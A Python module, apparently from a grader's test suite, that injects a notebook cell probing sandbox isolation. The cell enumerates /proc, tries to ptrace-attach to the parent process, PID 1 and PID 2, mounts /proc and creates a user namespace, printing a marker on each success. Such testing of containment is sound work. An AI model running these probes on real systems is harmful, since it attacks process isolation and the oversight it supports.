"""Looks at other processes: /proc, their memory and their files."""

from grader.attacks import LOOT, insert

STOCK = "held the batch up for more than 120 s"


def cell(LOOT):
    import ctypes
    import glob
    import os

    for path in glob.glob("/proc/*"):
        print(LOOT, path)
    libc = ctypes.CDLL(None)
    for pid in (os.getppid(), 1, 2):
        if pid not in (0, os.getpid()) and libc.ptrace(16, pid, 0, 0) == 0:
            print(LOOT, "attached to", pid)
    if libc.mount(b"proc", b"/proc", b"proc", 0, None) == 0:
        print(LOOT, "mounted /proc")
    if libc.unshare(0x10000000) == 0:
        print(LOOT, "made a user namespace")


def attack(nb, folder):
    insert(nb, cell, LOOT=LOOT)
